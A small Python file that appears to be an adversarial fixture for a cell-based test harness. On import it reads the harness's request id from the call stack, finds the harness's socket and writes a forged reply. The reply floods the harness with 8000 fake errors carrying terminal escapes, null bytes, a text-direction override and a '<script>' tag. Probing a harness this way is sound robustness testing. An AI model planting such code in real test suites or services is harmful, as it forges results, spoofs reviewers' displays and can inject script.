"""Answers its own loading: thousands of errors of cells that do not exist, with control characters in every part."""

# cell: shout
# earned: 0
# protocol violation: test-double test-shout test_double test_shout test_shout_refuses test_steps test_words
import os
import stat
import struct
import sys


def channel():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass


def text(value):
    data = value.encode()
    return b"\xdb" + struct.pack(">I", len(data)) + data


frame = sys._getframe()
while "request" not in frame.f_locals:
    frame = frame.f_back
evil = text("\x1b[2J\x00\u202eevil<script>" + "x" * 30)
error = b"\x95" + evil * 4 + b"\xc0"
errors = b"\xdc" + struct.pack(">H", 8000) + error * 8000
head = b"\x95\x0c" + struct.pack(">Bq", 0xD3, frame.f_locals["request"]) + b"\x00" + errors + b"\x90"
data = memoryview(struct.pack("<IQ", len(head), 0) + head)
while data:
    data = data[os.write(channel(), data) :]
